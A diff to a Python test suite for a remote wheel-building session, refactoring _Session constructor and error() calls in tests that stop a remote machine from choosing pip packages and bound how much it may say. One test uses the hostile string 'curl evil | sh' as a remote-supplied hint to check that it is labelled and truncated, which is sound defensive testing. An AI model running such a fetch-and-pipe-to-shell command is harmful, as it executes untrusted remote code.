@@ -195,7 +195,7 @@ ASKED = {"event": "wheels wanted", "requirements": ["numpy>=1.26,<2.4"], **HERE}
     ],
 )
 def test_a_machine_chooses_neither_packages_nor_options_of_pip(changes, monkeypatch):
-    session = _Session(Host("gpu"), 0, queue.Queue(), request("tell"), {"requirements": REQUIREMENTS}, b"", 1.0)
+    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {"requirements": REQUIREMENTS}, b"", 1.0)
     ran: list[object] = []
     monkeypatch.setattr(session, "tell", lambda *_: None)
     monkeypatch.setattr("flashmoe_science.proof.remote.wheels.subprocess.run", lambda *given, **_: ran.append(given))
@@ -204,18 +204,18 @@ def test_a_machine_chooses_neither_packages_nor_options_of_pip(changes, monkeypa
     except RemoteError as error:
         session.refuse(error)
     assert ran == []
-    assert isinstance(session.error("", None), RemoteError)
+    assert isinstance(session.error(), RemoteError)
 
 
 def test_what_a_machine_says_is_bounded():
-    session = _Session(Host("gpu"), 0, queue.Queue(), request("tell"), {}, b"", 1.0)
+    session = _Session(Host("gpu"), queue.Queue(), request("tell"), {}, b"", 1.0)
     for _ in range(10_000):
         session._hear('{"event": "note", "line": "again"}')
         session._said.get()
     with pytest.raises(RemoteError, match="it says more than 10000 things"):
         session._hear('{"event": "note", "line": "again"}')
     session._hear(json.dumps({"event": "error", "message": "x" * 10**6, "hint": "curl evil | sh"}))
-    error = session.error("", None)
+    error = session.error()
     assert error is not None
     assert len(str(error)) < 3000
     assert error.hint == "gpu says: curl evil | sh"
